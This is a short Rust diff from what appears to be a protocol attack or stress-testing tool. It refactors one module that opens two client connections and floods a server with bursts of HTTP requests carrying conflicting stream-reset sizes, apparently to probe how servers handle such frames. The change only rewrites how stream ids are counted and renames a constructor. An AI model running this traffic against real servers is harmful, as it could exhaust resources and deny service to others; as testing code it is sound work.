@@ -6,7 +6,7 @@ use crate::attack::{Plan, Victim};
 use crate::encode;
 use crate::http::{self, Method};
 
-use super::{Crowd, crowd};
+use super::Crowd;
 
 /// The entry of the attack in the list.
 pub(super) const PLAN: Plan = Plan {
@@ -18,12 +18,10 @@ pub(super) const PLAN: Plan = Plan {
 };
 
 fn reset_at() -> Crowd {
-    Crowd::new(2, |connection, progress, _| {
+    Crowd::of_clients(2, |connection, progress, _| {
         let request = http::request(Method::Get, "/");
         let len = request.len() as u64;
-        for _ in 0..crowd::permitted(connection, progress, BURST) {
-            let id = http::request_stream(progress.streams);
-            progress.streams += 1;
+        for id in progress.requests(connection, BURST) {
             let mut frames = Vec::new();
             // Larger ones arrive later and are ignored; the last one is below what arrived.
             for reliable_size in [len + PROMISED, len + 1, len + PROMISED - 1, 1] {
@@ -36,7 +34,7 @@ fn reset_at() -> Crowd {
                 if reliable_size == len + 1 {
                     frames.extend(http::stream(id, 0, &request, false));
                 }
-                if reliable_size != 1 && progress.streams.is_multiple_of(2) {
+                if reliable_size != 1 && !id.index().is_multiple_of(2) {
                     // Every second stream waits for its bytes.
                     break;
                 }
@@ -44,7 +42,6 @@ fn reset_at() -> Crowd {
             connection.push_bytes(frames);
         }
     })
-    .with_begin(crowd::preface)
 }
 
 /// Requests of one connection in one turn.
